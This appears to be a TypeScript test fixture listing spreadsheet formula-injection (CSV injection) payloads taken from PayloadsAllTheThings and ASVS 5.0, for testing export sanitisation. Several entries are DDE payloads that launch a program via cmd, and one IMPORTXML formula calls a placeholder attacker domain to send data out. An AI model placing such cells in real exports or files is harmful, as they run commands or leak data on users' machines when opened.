/** For tests: cells that spreadsheets run. PayloadsAllTheThings, "CSV Injection", and the beginnings that ASVS 5.0 V1.2.10 names. */
export const FORMULAS = [
  "=2+5+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=cmd|' /C calc'!'A1'",
  `=AAAA+BBBB-CCCC&"Hello"/12345&cmd|'/c calc.exe'!A`,
  "=         cmd|'/c calc.exe'!A",
  '=IMPORTXML("http://[ATTACKER.DOMAIN.TLD]/csv", "//a/@href")',
  "+1+1",
  "-1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(A1)",
] as const;
